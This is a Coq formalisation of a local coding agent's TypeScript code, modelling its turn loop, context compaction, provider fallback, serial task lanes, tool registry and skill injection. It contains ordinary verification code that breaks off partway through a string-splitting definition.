(** * clawlite: the agentic turn loop, the context guard and the serial lane

    A shallow embedding of [src/llm/types.ts], [src/context.ts],
    [src/lane.ts], [src/tools/registry.ts], [src/tools/skills.ts],
    [src/memory/session.ts] and [src/agent.ts], followed by the properties
    of the specification that were checked against it; then of the parts
    of [src/llm/groq.ts], [src/llm/ollama.ts], [src/index.ts],
    [src/memory/approvals.ts] and [src/tools/shell.ts] that compute on
    text, with further properties of the code.

    Conventions of the embedding:
    - a JavaScript string is a [string]; [length] and [slice] count its
      elements, as JavaScript counts UTF-16 code units;
    - a JavaScript array is a [list]; [push] appends at the end;
    - token counts are integers ([Z]); the guard's [maxTokens] and
      [threshold] are rationals ([Q]), and their product is rounded by a
      function [fl] that stands for the arithmetic of the host (the
      identity for exact arithmetic, rounding to a double for JavaScript);
    - a thrown error is represented by its string rendering, which is all
      the agent ever uses of it (it only interpolates it in a template); a
      call that can reject ([chat] of a provider, [execute] of a tool)
      returns its result or the error, and an error that nothing catches
      settles [handleMessage] as rejected;
    - the outside world (model servers, the file system behind the tools) is
      an abstract state [W] threaded through every call that can touch it. *)

From Stdlib Require Import QArith.
From stdpp Require Import gmap strings list pretty.

Local Open Scope string_scope.
Local Open Scope list_scope.

(** ** JavaScript primitives used by the sources *)

Module JS.

(** The line feed written [\n] in the sources' template literals. *)
Definition LF : string := String (Ascii.ascii_of_nat 10) EmptyString.

(** The double quote written inside template literals. *)
Definition DQ : string := String (Ascii.ascii_of_nat 34) EmptyString.

(** [Array.prototype.join]. *)
Fixpoint join (sep : string) (parts : list string) : string :=
  match parts with
  | [] => ""
  | [p] => p
  | p :: rest => p +:+ sep +:+ join sep rest
  end.

(** Relative index of [Array.prototype.slice]: a negative index counts
    from the end, and the result is clamped to [0, len]. *)
Definition rel_index (len : nat) (i : Z) : nat :=
  if (i <? 0)%Z then Z.to_nat (Z.max (Z.of_nat len + i) 0)
  else Nat.min (Z.to_nat i) len.

(** [arr.slice(start, end)]. *)
Definition slice {A} (arr : list A) (start stop : Z) : list A :=
  let k := rel_index (length arr) start in
  let final := rel_index (length arr) stop in
  take (final - k) (drop k arr).

(** [arr.slice(start)]. *)
Definition slice_from {A} (arr : list A) (start : Z) : list A :=
  drop (rel_index (length arr) start) arr.

(** [text.slice(0, max)] for a non-negative [max]. *)
Definition str_prefix (max : nat) (text : string) : string :=
  String.substring 0 max text.

(** [String.prototype.toLowerCase], on the code units below 256: the
    letters [A] to [Z], and the capital letters from 192 to 222, of which
    215 (the multiplication sign) is none. *)
Definition lower_ascii (c : Ascii.ascii) : Ascii.ascii :=
  let n := Ascii.nat_of_ascii c in
  if ((65 <=? n)%nat && (n <=? 90)%nat)
     || ((192 <=? n)%nat && (n <=? 222)%nat && negb (n =? 215)%nat)
  then Ascii.ascii_of_nat (n + 32) else c.

Fixpoint toLowerCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (lower_ascii c) (toLowerCase rest)
  end.

(** [String.prototype.includes]. *)
Fixpoint includes (text needle : string) : bool :=
  String.prefix needle text ||
  match text with
  | EmptyString => false
  | String _ rest => includes rest needle
  end.

(** Truthiness of a string: the empty string is falsy. *)
Definition truthy (s : string) : bool := negb (String.eqb s "").

End JS.

(** ** [src/llm/types.ts] *)

Inductive Role := system | user | assistant | tool.

Global Instance Role_eq_dec : EqDecision Role.
Proof. solve_decision. Defined.

Record FunctionCall := {
  fn_name : string;
  fn_arguments : string
}.

Record ToolCall := {
  tc_id : string;
  tc_function : FunctionCall
}.

Record Message := {
  role : Role;
  content : string;
  tool_calls : option (list ToolCall);
  tool_call_id : option string
}.

Global Instance FunctionCall_eq_dec : EqDecision FunctionCall.
Proof. solve_decision. Defined.
Global Instance ToolCall_eq_dec : EqDecision ToolCall.
Proof. solve_decision. Defined.
Global Instance Message_eq_dec : EqDecision Message.
Proof. solve_decision. Defined.

(** An object literal [{ role, content }] leaves the optional fields out. *)
Definition plain (r : Role) (c : string) : Message :=
  {| role := r; content := c; tool_calls := None; tool_call_id := None |}.

(** An object literal [{ role: "tool", content, tool_call_id }]. *)
Definition tool_message (c : string) (id : string) : Message :=
  {| role := tool; content := c; tool_calls := None; tool_call_id := Some id |}.

Record ToolDef := {
  def_name : string;
  def_description : string;
  def_properties : list (string * (string * string));
  def_required : list string
}.

(** What a call of [chat] settles to: the assistant message, or the
    rendering of the error it rejected with. *)
Inductive ChatResult :=
| Resolved (m : Message)
| Rejected (err : string).

(** The [LLMProvider] interface.  [oid] is the identity of the object, which
    [agent.ts] compares with [!==]. *)
Record LLMProvider {W : Type} := {
  oid : nat;
  name : string;
  chat : list Message -> list ToolDef -> W -> ChatResult * W;
  estimateTokens : string -> Z
}.
Arguments LLMProvider : clear implicits.

(** ** [src/context.ts] *)

Module Ctx.

Record ContextGuard := {
  maxTokens : Q;
  threshold : Q
}.

(** What [compact] writes with [console.log] when it replaces the
    conversation: the token estimates and the message counts. *)
Record Notice := {
  tokens_before : Z;
  tokens_after : Z;
  count_before : nat;
  count_after : nat
}.

Section WithEstimator.
(** Only [estimateTokens] of the provider is used by the guard. *)
Variable estimate : string -> Z.

(** The rounding of a product of numbers by the host. *)
Variable fl : Q -> Q.

Definition truncate (text : string) (max : nat) : string :=
  if (String.length text <=? max)%nat then text
  else JS.str_prefix max text +:+ "...".

Definition estimateTotal (messages : list Message) : Z :=
  fold_left
    (fun total msg =>
       let total := (total + estimate (content msg))%Z in
       match tool_calls msg with
       | Some tcs =>
           fold_left
             (fun total tc => (total + estimate (fn_arguments (tc_function tc)))%Z)
             tcs total
       | None => total
       end)
    messages 0%Z.

Definition needsCompaction (g : ContextGuard) (messages : list Message) : bool :=
  let totalTokens := estimateTotal messages in
  negb (Qle_bool (inject_Z totalTokens) (fl (maxTokens g * threshold g))).

(** The body of the summarising loop: what one message pushes onto
    [summaryParts]. *)
Definition summarise_step (summaryParts : list string) (msg : Message)
  : list string :=
  match role msg with
  | user => summaryParts ++ ["User asked: " +:+ truncate (content msg) 100]
  | assistant =>
      match tool_calls msg with
      | Some tcs =>
          let tools := JS.join ", " (map (fun tc => fn_name (tc_function tc)) tcs) in
          summaryParts ++ ["Assistant used tools: " +:+ tools]
      | None => summaryParts ++ ["Assistant: " +:+ truncate (content msg) 100]
      end
  | tool => summaryParts ++ ["Tool result: " +:+ truncate (content msg) 60]
  | system => summaryParts
  end.

Definition summary_message (summaryParts : list string) : Message :=
  plain user
    ("[Context compacted. Summary of earlier conversation:" +:+ JS.LF +:+
     JS.join JS.LF summaryParts +:+ JS.LF +:+ "]" +:+ JS.LF +:+
     "Continue from here.").

(** [compact], returning the new conversation and what it logged. *)
Definition compact (messages : list Message) : list Message * option Notice :=
  if (length messages <=? 4)%nat then (messages, None) else
  let system_msg :=
    match messages with
    | m :: _ => if decide (role m = system) then Some m else None
    | [] => None
    end in
  let nonSystem :=
    match system_msg with
    | Some _ => JS.slice_from messages 1
    | None => messages
    end in
  let keep := 4%Z in
  let toSummarise := JS.slice nonSystem 0 (- keep) in
  let recent := JS.slice_from nonSystem (- keep) in
  if (length toSummarise =? 0)%nat then (messages, None) else
  let summaryParts := fold_left summarise_step toSummarise [] in
  let summary := summary_message summaryParts in
  let result := [] in
  let result := match system_msg with Some s => result ++ [s] | None => result end in
  let result := result ++ [summary] in
  let result := result ++ recent in
  let before := estimateTotal messages in
  let after := estimateTotal result in
  (result,
   Some {| tokens_before := before; tokens_after := after;
           count_before := length messages; count_after := length result |}).

End WithEstimator.

(** *** The specification's description of [compact]

    Written from the words of the specification, to be compared with
    [compact]: first as the specification has them, then as amended. *)















End Ctx.

(** ** [src/lane.ts]

    JavaScript runs [enqueue] and each resumption of [process] to the next
    [await] without interruption, so the lane is a transition system with
    two kinds of steps: a caller enqueues a task, or the task that
    [process] awaits settles.  A task is represented by a label of type
    [T]; its body runs outside the lane. *)

Module Lanes.

(** How the promise returned by [item.task()] settles. *)
Inductive Outcome := Fulfilled | Failed.

(** What a lane does that its environment can see: it invokes
    [item.task()], and it hands the outcome to the task's waiter with
    [item.resolve] or [item.reject]. *)
Inductive Effect {T : Type} :=
| Started (t : T)
| Finished (t : T) (o : Outcome).
Arguments Effect : clear implicits.

Section WithTasks.
Variable T : Type.

(** The fields of [Lane], and [awaiting]: the local [item] of a
    [process] call suspended at [await item.task()]. *)
Record Lane := {
  queue : list T;
  running : bool;
  awaiting : option T
}.

Definition new_Lane : Lane :=
  {| queue := []; running := false; awaiting := None |}.

(** The [while] loop of [process], up to its next suspension or exit. *)
Definition process_loop (l : Lane) : Lane * list (Effect T) :=
  match queue l with
  | item :: rest =>
      ({| queue := rest; running := running l; awaiting := Some item |},
       [Started item])
  | [] =>
      ({| queue := []; running := false; awaiting := awaiting l |}, [])
  end.

Definition process (l : Lane) : Lane * list (Effect T) :=
  if running l then (l, [])
  else process_loop {| queue := queue l; running := true; awaiting := awaiting l |}.

Definition enqueue (task : T) (l : Lane) : Lane * list (Effect T) :=
  process {| queue := queue l ++ [task]; running := running l;
             awaiting := awaiting l |}.

(** The awaited task settles: [process] resumes, resolves or rejects
    the waiter and goes round its loop.  There is no such step when
    nothing is awaited. *)
Definition settle (o : Outcome) (l : Lane) : option (Lane * list (Effect T)) :=
  match awaiting l with
  | Some item =>
      let '(l', effs) :=
        process_loop {| queue := queue l; running := running l;
                        awaiting := None |} in
      Some (l', Finished item o :: effs)
  | None => None
  end.

Definition pending (l : Lane) : nat := length (queue l).
Definition isRunning (l : Lane) : bool := running l.

(** [LaneManager]: the map from lane names to lanes. *)
Record LaneManager := { lanes : gmap string Lane }.

Definition new_LaneManager : LaneManager := {| lanes := ∅ |}.

Definition getLane (lane_name : string) (m : LaneManager) : Lane * LaneManager :=
  let m :=
    if decide (is_Some (lanes m !! lane_name)) then m
    else {| lanes := <[lane_name := new_Lane]> (lanes m) |} in
  (default new_Lane (lanes m !! lane_name), m).

(** An effect of a lane, tagged with the lane's name. *)
Definition Tagged : Type := string * Effect T.

Definition runParallel (laneName : string) (task : T) (m : LaneManager)
  : LaneManager * list Tagged :=
  let '(l, m) := getLane laneName m in
  let '(l', effs) := enqueue task l in
  ({| lanes := <[laneName := l']> (lanes m) |}, map (pair laneName) effs).

Definition run (task : T) (m : LaneManager) : LaneManager * list Tagged :=
  runParallel "default" task m.

(** The steps of a manager and its lanes. *)
Inductive Step :=
| Enqueue (key : string) (task : T)
| Settle (key : string) (o : Outcome).

Definition step (st : Step) (m : LaneManager) : option (LaneManager * list Tagged) :=
  match st with
  | Enqueue key task => Some (runParallel key task m)
  | Settle key o =>
      match lanes m !! key with
      | Some l =>
          match settle o l with
          | Some (l', effs) =>
              Some ({| lanes := <[key := l']> (lanes m) |}, map (pair key) effs)
          | None => None
          end
      | None => None
      end
  end.

(** A run: the steps in order, with the effects accumulated. *)
Fixpoint exec (steps : list Step) (m : LaneManager) (log : list Tagged)
  : option (LaneManager * list Tagged) :=
  match steps with
  | [] => Some (m, log)
  | st :: rest =>
      match step st m with
      | Some (m', effs) => exec rest m' (log ++ effs)
      | None => None
      end
  end.

(** *** Vocabulary of the ordering property *)

(** The tasks enqueued on [key], in order. *)
Definition enqueued (key : string) (steps : list Step) : list T :=
  omap (fun st => match st with
                  | Enqueue k t => if decide (k = key) then Some t else None
                  | Settle _ _ => None
                  end) steps.

(** The number of settlements on [key]. *)
Definition settled (key : string) (steps : list Step) : nat :=
  length (omap (fun st => match st with
                          | Settle k o => if decide (k = key) then Some o else None
                          | Enqueue _ _ => None
                          end) steps).

(** The effects of the lane [key], in order. *)
Definition on_lane (key : string) (log : list Tagged) : list (Effect T) :=
  omap (fun e => if decide (e.1 = key) then Some e.2 else None) log.

Inductive Phase := Begin | End_.

Definition phase (e : Effect T) : Phase * T :=
  match e with
  | Started t => (Begin, t)
  | Finished t _ => (End_, t)
  end.

(** Strictly serial execution of [tasks]: each begins, ends, and only
    then the next begins. *)
Definition serial (tasks : list T) : list (Phase * T) :=
  flat_map (fun t => [(Begin, t); (End_, t)]) tasks.

(** The tasks that began, and the tasks that ended, in order. *)
Definition begun (phases : list (Phase * T)) : list T :=
  omap (fun x => match x.1 with Begin => Some x.2 | End_ => None end) phases.

Definition ended (phases : list (Phase * T)) : list T :=
  omap (fun x => match x.1 with End_ => Some x.2 | Begin => None end) phases.

(** The lane named [key], a new lane when the manager has none yet. *)
Definition lane_at (key : string) (m : LaneManager) : Lane :=
  default new_Lane (lanes m !! key).

(** What holds of a lane between two steps: the tasks enqueued on it are
    those that finished, then the one it awaits, then its queue; and it has
    run the finished ones serially and begun the awaited one. *)
Definition lane_invariant (l : Lane) (tasks : list T) (n : nat)
    (phases : list (Phase * T)) : Prop :=
  exists finished,
    length finished = n
    /\ match awaiting l with
       | Some t =>
           running l = true
           /\ tasks = finished ++ t :: queue l
           /\ phases = serial finished ++ [(Begin, t)]
       | None =>
           running l = false /\ queue l = []
           /\ tasks = finished /\ phases = serial finished
       end.

(** The invariant of every lane of a manager, after [steps]. *)
Definition manager_invariant (steps : list Step) (m : LaneManager)
    (log : list Tagged) : Prop :=
  forall key,
    lane_invariant (lane_at key m) (enqueued key steps) (settled key steps)
      (map phase (on_lane key log)).

End WithTasks.

Arguments lane_at {T}.
Arguments lane_invariant {T}.
Arguments manager_invariant {T}.
Arguments begun {T}.
Arguments ended {T}.
Arguments Started {T}.
Arguments Finished {T}.
Arguments Enqueue {T}.
Arguments Settle {T}.
Arguments queue {T}.
Arguments running {T}.
Arguments awaiting {T}.
Arguments lanes {T}.
Arguments new_LaneManager {T}.
Arguments exec {T}.
Arguments step {T}.
Arguments enqueued {T}.
Arguments settled {T}.
Arguments on_lane {T}.
Arguments phase {T}.
Arguments serial {T}.

End Lanes.

(** ** [src/tools/types.ts], [src/tools/registry.ts], [src/tools/skills.ts] *)

Module Tools.

Record ToolResult := {
  output : string;
  success : bool
}.

(** What a call of [execute] settles to: the result of the tool, or the
    rendering of the error that it rejected with. *)
Inductive Executed :=
| Done (r : ToolResult)
| Thrown (err : string).

(** The [Tool] interface.  [J] is the type of parsed JSON values and [W]
    the state of the outside world. *)
Record Tool {W J : Type} := {
  tool_name : string;
  definition : ToolDef;
  execute : J -> W -> Executed * W
}.
Arguments Tool : clear implicits.

Section Registry.
Context {W J : Type}.

(** [Map<string, Tool>]: the bindings in insertion order. *)
Record ToolRegistry := { tools : list (string * Tool W J) }.

Definition new_ToolRegistry : ToolRegistry := {| tools := [] |}.

(** [Map.prototype.set]: a bound key keeps its place. *)
Fixpoint map_set (k : string) (v : Tool W J) (bs : list (string * Tool W J))
  : list (string * Tool W J) :=
  match bs with
  | [] => [(k, v)]
  | (k', v') :: rest =>
      if String.eqb k' k then (k, v) :: rest else (k', v') :: map_set k v rest
  end.

(** [Map.prototype.get]. *)
Fixpoint map_get (k : string) (bs : list (string * Tool W J)) : option (Tool W J) :=
  match bs with
  | [] => None
  | (k', v) :: rest => if String.eqb k' k then Some v else map_get k rest
  end.

Definition register (t : Tool W J) (r : ToolRegistry) : ToolRegistry :=
  {| tools := map_set (tool_name t) t (tools r) |}.

Definition get (r : ToolRegistry) (tname : string) : option (Tool W J) :=
  map_get tname (tools r).

Definition getDefinitions (r : ToolRegistry) (names : option (list string))
  : list ToolDef :=
  match names with
  | Some names => map definition (omap (fun n => map_get n (tools r)) names)
  | None => map (fun b => definition b.2) (tools r)
  end.

Definition listNames (r : ToolRegistry) : list string := map fst (tools r).

End Registry.
Arguments ToolRegistry : clear implicits.

(** A loaded skill; a missing [trigger] is [None]. *)
Record Skill := {
  skill_name : string;
  trigger : option string;
  skill_content : string;
  filePath : string
}.

(** [SkillLoader] once [load] has read the directory. *)
Record SkillLoader := { skills : list Skill }.

Definition getRelevant (l : SkillLoader) (userMessage : string) : list Skill :=
  let lower := JS.toLowerCase userMessage in
  List.filter
    (fun skill =>
       match trigger skill with
       | None => true
       | Some t =>
           if JS.truthy t then JS.includes lower (JS.toLowerCase t) else true
       end)
    (skills l).

Definition buildPrompt (l : SkillLoader) (userMessage : string) : string :=
  let relevant := getRelevant l userMessage in
  if (length relevant =? 0)%nat then "" else
  let parts :=
    map (fun s => "[Skill: " +:+ skill_name s +:+ "]" +:+ JS.LF +:+ skill_content s)
      relevant in
  JS.LF +:+ JS.LF +:+ JS.join (JS.LF +:+ JS.LF) parts.

End Tools.

(** ** [src/agent.ts] *)

Module Agent.
Import Tools.

Definition MAX_TURNS : nat := 15.

Definition SYSTEM_PROMPT : string :=
  "You are a helpful coding assistant running locally. You have access to tools for shell commands and file operations."
  +:+ JS.LF +:+ JS.LF +:+
  "Rules:" +:+ JS.LF +:+
  "- Be concise. Short answers save context tokens." +:+ JS.LF +:+
  "- Use tools when needed, don't guess file contents." +:+ JS.LF +:+
  "- One tool call at a time for reliability." +:+ JS.LF +:+
  "- If a command fails, explain why and suggest alternatives." +:+ JS.LF +:+
  "- Ask for clarification if the request is ambiguous.".

Section WithWorld.
Context {W J : Type}.

(** The rounding of a product of numbers by the host. *)
Variable fl : Q -> Q.

(** [JSON.parse]: [None] when it throws. *)
Variable JSON_parse : string -> option J.

(** The fields of [Agent] that hold data.  [session], [lanes] and
    [onOutput] refer to collaborators whose state is in [Machine]. *)
Record Agent := {
  provider : LLMProvider W;
  fallback : option (LLMProvider W);
  tools : ToolRegistry W J;
  context : Ctx.ContextGuard;
  skills : option SkillLoader;
  messages : list Message
}.

(** What the agent does that its environment can see. *)
Inductive Event :=
| EvChat (who : nat) (conversation : list Message) (toolDefs : list ToolDef)
| EvAppend (m : Message)
| EvOutput (text : string)
| EvConsole (n : Ctx.Notice)
| EvExecute (tool_called : string) (args : J).

(** The agent together with what it acts on: the lines of the session
    file (each less its timestamp, as [SessionStore.load] reads them
    back), the effects so far, and the outside world. *)
Record Machine := {
  agent : Agent;
  session : list Message;
  trace : list Event;
  world : W
}.

Definition constructor (provider0 : LLMProvider W)
    (fallback0 : option (LLMProvider W)) (tools0 : ToolRegistry W J)
    (context0 : Ctx.ContextGuard) (skills0 : option SkillLoader) : Agent :=
  {| provider := provider0; fallback := fallback0; tools := tools0;
     context := context0; skills := skills0;
     messages := [] ++ [plain system SYSTEM_PROMPT] |}.

(** *** Sequencing of effects *)

Definition M (A : Type) : Type := Machine -> A * Machine.

Definition ret {A} (a : A) : M A := fun s => (a, s).

Definition bind {A B} (c : M A) (k : A -> M B) : M B :=
  fun s => let '(a, s') := c s in k a s'.

Notation "x <- c ;; k" := (bind c (fun x => k))
  (at level 100, c at next level, right associativity).
Notation "c ;; k" := (bind c (fun _ => k))
  (at level 100, right associativity).

Definition set_messages (ms : list Message) : M unit :=
  fun s =>
    let a := agent s in
    (tt, {| agent := {| provider := provider a; fallback := fallback a;
                        tools := tools a; context := context a;
                        skills := skills a; messages := ms |};
            session := session s; trace := trace s; world := world s |}).

Definition emit (e : Event) : M unit :=
  fun s => (tt, {| agent := agent s; session := session s;
                   trace := trace s ++ [e]; world := world s |}).

(** [this.messages.push(m)]. *)
Definition push (m : Message) : M unit :=
  fun s => set_messages (messages (agent s) ++ [m]) s.

(** [this.session.append(m)]: [SessionStore.append] adds one line. *)
Definition session_append (m : Message) : M unit :=
  fun s => emit (EvAppend m)
             {| agent := agent s; session := session s ++ [m];
                trace := trace s; world := world s |}.

Definition onOutput (text : string) : M unit := emit (EvOutput text).

(** [await p.chat(this.messages, toolDefs)]. *)
Definition call_chat (p : LLMProvider W) (toolDefs : list ToolDef) : M ChatResult :=
  fun s =>
    let conversation := messages (agent s) in
    let '(r, w) := chat p conversation toolDefs (world s) in
    (r, {| agent := agent s; session := session s;
           trace := trace s ++ [EvChat (oid p) conversation toolDefs];
           world := w |}).

(** [await tool.execute(args)]. *)
Definition call_execute (t : Tool W J) (args : J) : M Executed :=
  fun s =>
    let '(r, w) := execute t args (world s) in
    (r, {| agent := agent s; session := session s;
           trace := trace s ++ [EvExecute (tool_name t) args];
           world := w |}).

(** *** [handleMessage] *)

(** Lines 58-66: the skill text goes into the system message. *)
Definition inject_skills (userInput : string) : M unit :=
  fun s =>
    match skills (agent s) with
    | Some loader =>
        let skillPrompt := buildPrompt loader userInput in
        let first_is_system :=
          match messages (agent s) with
          | m :: _ => bool_decide (role m = system)
          | [] => false
          end in
        if JS.truthy skillPrompt && first_is_system then
          set_messages
            (<[0%nat := plain system (SYSTEM_PROMPT +:+ skillPrompt)]>
               (messages (agent s))) s
        else (tt, s)
    | None => (tt, s)
    end.

(** Lines 79-81: the context guard. *)
Definition guard (activeProvider : LLMProvider W) : M unit :=
  fun s =>
    let a := agent s in
    if Ctx.needsCompaction (estimateTokens activeProvider) fl (context a)
         (messages a)
    then
      let '(ms, logged) :=
        Ctx.compact (estimateTokens activeProvider) (messages a) in
      (set_messages ms ;;
       match logged with
       | Some n => emit (EvConsole n)
       | None => ret tt
       end) s
    else (tt, s).

(** Lines 117-155: the body of the loop over [response.tool_calls].  The
    result is [None] when the body comes to its end or to a [continue], and
    the error when [tool.execute], which is awaited outside of any [try],
    rejects. *)
Definition dispatch (toolCall : ToolCall) : M (option string) :=
  fun s =>
    let fn := tc_function toolCall in
    match get (tools (agent s)) (fn_name fn) with
    | None =>
        let errResult :=
          tool_message
            ("Error: unknown tool " +:+ JS.DQ +:+ fn_name fn +:+ JS.DQ)
            (tc_id toolCall) in
        (push errResult ;; session_append errResult ;; ret None) s
    | Some t =>
        match JSON_parse (fn_arguments fn) with
        | None =>
            let errResult :=
              tool_message
                ("Error: invalid JSON in tool arguments: " +:+ fn_arguments fn)
                (tc_id toolCall) in
            (push errResult ;; session_append errResult ;; ret None) s
        | Some args =>
            (onOutput ("  [tool: " +:+ fn_name fn +:+ "]") ;;
             settled <- call_execute t args ;;
             match settled with
             | Done result =>
                 let toolResult :=
                   tool_message (output result) (tc_id toolCall) in
                 push toolResult ;; session_append toolResult ;; ret None
             | Thrown e => ret (Some e)
             end) s
        end
    end.

(** The loop over [response.tool_calls]: an error leaves it. *)
Fixpoint dispatch_all (toolCalls : list ToolCall) : M (option string) :=
  match toolCalls with
  | [] => ret None
  | toolCall :: rest =>
      thrown <- dispatch toolCall ;;
      match thrown with
      | None => dispatch_all rest
      | Some e => ret (Some e)
      end
  end.

(** How one round of the [while] loop ends: with a [return], by going
    round again, or with an error that nothing catches. *)
Inductive Flow :=
| Return (text : string)
| Continue
| Throw (err : string).

(** Lines 107-156: what follows a successful [chat]. *)
Definition respond (response : Message) : M Flow :=
  push response ;;
  session_append response ;;
  match tool_calls response with
  | None => ret (Return (content response))
  | Some [] => ret (Return (content response))
  | Some toolCalls =>
      thrown <- dispatch_all toolCalls ;;
      match thrown with
      | None => ret Continue
      | Some e => ret (Throw e)
      end
  end.

(** Lines 78-156: one round of the loop; also the provider that is
    active when the round ends. *)
Definition round (activeProvider : LLMProvider W) : M (Flow * LLMProvider W) :=
  guard activeProvider ;;
  fun s =>
    let toolDefs := getDefinitions (tools (agent s)) None in
    (r <- call_chat activeProvider toolDefs ;;
     match r with
     | Resolved response =>
         f <- respond response ;; ret (f, activeProvider)
     | Rejected e =>
         match fallback (agent s) with
         | Some fb =>
             if negb (oid activeProvider =? oid fb)%nat then
               onOutput ("  [" +:+ name activeProvider +:+
                         " failed, falling back to " +:+ name fb +:+ "]") ;;
               let activeProvider := fb in
               r2 <- call_chat activeProvider toolDefs ;;
               match r2 with
               | Resolved response =>
                   f <- respond response ;; ret (f, activeProvider)
               | Rejected e2 =>
                   let errMsg :=
                     "Both providers failed. " +:+ name activeProvider +:+
                     ": " +:+ e2 in
                   ret (Return errMsg, activeProvider)
               end
             else ret (Return ("LLM error: " +:+ e), activeProvider)
         | None => ret (Return ("LLM error: " +:+ e), activeProvider)
         end
     end) s.

Definition limit_message : string :=
  "Reached maximum turns (" +:+ pretty MAX_TURNS +:+
  "). Last response may be incomplete.".

(** How the promise of [handleMessage] settles: it resolves to a text, or
    it rejects with an error. *)
Inductive Settled :=
| Returned (text : string)
| Raised (err : string).

(** Lines 75-159: [while (turns < MAX_TURNS)], by recursion on
    [MAX_TURNS - turns].  The result is how the task settles and the value
    of [turns] at that point. *)
Fixpoint turn_loop (remaining : nat) (turns : nat)
    (activeProvider : LLMProvider W) : M (Settled * nat) :=
  match remaining with
  | O => ret (Returned limit_message, turns)
  | S remaining =>
      let turns := S turns in
      fa <- round activeProvider ;;
      match fa.1 with
      | Return text => ret (Returned text, turns)
      | Continue => turn_loop remaining turns fa.2
      | Throw e => ret (Raised e, turns)
      end
  end.

(** The task that [handleMessage] hands to [this.lanes.run]; the lane
    is modelled in [Lanes], and settles [handleMessage] as the task
    settles. *)
Definition handleMessage_turns (userInput : string) : M (Settled * nat) :=
  inject_skills userInput ;;
  let userMsg := plain user userInput in
  push userMsg ;;
  session_append userMsg ;;
  fun s => turn_loop MAX_TURNS 0 (provider (agent s)) s.

Definition handleMessage (userInput : string) : M Settled :=
  r <- handleMessage_turns userInput ;; ret r.1.

Definition getMessageCount (a : Agent) : nat := length (messages a).

Definition getProvider (a : Agent) : string := name (provider a).

(** *** Vocabulary of the properties *)

(** The conversation that [compact] returns; it does not depend on the
    estimator, which only feeds the logged notice. *)
Definition compacted (conversation : list Message) : list Message :=
  (Ctx.compact (fun _ => 0%Z) conversation).1.

(** What an effect tells about the conversation in memory: a line
    added to the session file is a message pushed onto it, and a
    compaction notice is its replacement by [compact]. *)
Definition replay_event (conversation : list Message) (e : Event)
  : list Message :=
  match e with
  | EvAppend m => conversation ++ [m]
  | EvConsole _ => compacted conversation
  | _ => conversation
  end.

Definition replay (conversation : list Message) (evs : list Event)
  : list Message :=
  fold_left replay_event evs conversation.

(** The lines that a run of effects adds to the session file. *)
Definition appended (evs : list Event) : list Message :=
  omap (fun e => match e with EvAppend m => Some m | _ => None end) evs.

(** Every [chat] call among [evs] is given the conversation replayed
    from the effects before it. *)
Fixpoint chats_follow (conversation : list Message) (evs : list Event) : Prop :=
  match evs with
  | [] => True
  | e :: rest =>
      match e with
      | EvChat _ sent _ => sent = conversation
      | _ => True
      end
      /\ chats_follow (replay_event conversation e) rest
  end.


(** The number of [chat] calls among [evs]. *)
Definition provider_calls (evs : list Event) : nat :=
  length (omap (fun e => match e with EvChat who _ _ => Some who | _ => None end) evs).

(** From [s] to [s'], the effects [evs] happened and account for the
    session file and for the conversation. *)
Definition accounts (evs : list Event) (s s' : Machine) : Prop :=
  trace s' = trace s ++ evs
  /\ session s' = session s ++ appended evs
  /\ messages (agent s') = replay (messages (agent s)) evs
  /\ chats_follow (messages (agent s)) evs.

(** From [s] to [s'], nothing of the agent changed but [messages]. *)
Definition same_configuration (s s' : Machine) : Prop :=
  provider (agent s') = provider (agent s)
  /\ fallback (agent s') = fallback (agent s)
  /\ tools (agent s') = tools (agent s)
  /\ context (agent s') = context (agent s)
  /\ skills (agent s') = skills (agent s).

(** A message pushed and appended: lines 69-70, 107-108, 125-126,
    139-140 and 154-155. *)
Definition committed (m : Message) (s : Machine) : Machine :=
  {| agent := {| provider := provider (agent s); fallback := fallback (agent s);
                 tools := tools (agent s); context := context (agent s);
                 skills := skills (agent s);
                 messages := messages (agent s) ++ [m] |};
     session := session s ++ [m];
     trace := trace s ++ [EvAppend m];
     world := world s |}.

(** The state in which the loop of a turn starts. *)
Definition turn_start (input : string) (s : Machine) : Machine :=
  committed (plain user input) (inject_skills input s).2.

(** The notice of lines 92-94. *)
Definition fallback_notice (p fb : LLMProvider W) : string :=
  "  [" +:+ name p +:+ " failed, falling back to " +:+ name fb +:+ "]".

(** [reaches input s k p sk]: the turn that [handleMessage input] starts in
    [s] comes to the head of its loop for the round after [k] completed
    ones (the source's [turns] is [k]), with [p] the active provider and
    [sk] the state. *)
Inductive reaches (input : string) (s : Machine)
  : nat -> LLMProvider W -> Machine -> Prop :=
| reaches_start :
    reaches input s 0 (provider (agent (turn_start input s))) (turn_start input s)
| reaches_next k p sk :
    reaches input s k p sk ->
    (round p sk).1.1 = Continue ->
    reaches input s (S k) (round p sk).1.2 (round p sk).2.





End WithWorld.

Arguments Agent : clear implicits.
Arguments Machine : clear implicits.
Arguments Event : clear implicits.

End Agent.

(** ** More JavaScript text primitives *)

Module JSText.

(** The white space of [\s], [trim] and [trimStart] among the code units
    below 256: tab, line feed, vertical tab, form feed, carriage return,
    space and no-break space. *)
Definition is_space (c : Ascii.ascii) : bool :=
  let n := Ascii.nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat || (n =? 160)%nat.

(** [String.prototype.trimStart]. *)
Fixpoint trimStart (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => if is_space c then trimStart rest else s
  end.

(** [String.prototype.trimEnd]. *)
Fixpoint trimEnd (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest =>
      match trimEnd rest with
      | EmptyString => if is_space c then EmptyString else String c EmptyString
      | kept => String c kept
      end
  end.

(** [String.prototype.trim]. *)
Definition trim (s : string) : string := trimEnd (trimStart s).

(** [String.prototype.startsWith]. *)
Definition startsWith (text lead : string) : bool := String.prefix lead text.

(** [text.split(sep)] for a separator of one character. *)
Fixpoint split_char (sep : Ascii.ascii) (text : string) : list string :=
  match text with
  | EmptyString => [EmptyString]
  | String c rest =>
      if Ascii.eqb c sep then EmptyString :: split_char sep rest
      else match split_char sep rest with
           | piece :: pieces => String c piece :: pieces
           | [] => [String c EmptyString]
           end
  end.

(** [text.split(/\s+/)]: the pieces between the runs of white space. *)
Fixpoint split_spaces (text : string) : list string :=
  match text with
  | EmptyString => [EmptyString]
  | String c rest =>
      if is_space c then
        match rest with
        | String c' _ => if is_space c' then split_spaces rest
                         else EmptyString :: split_spaces rest
        | EmptyString => EmptyString :: split_spaces rest
        end
      else match split_spaces rest with
           | piece :: pieces => String c piece :: pieces
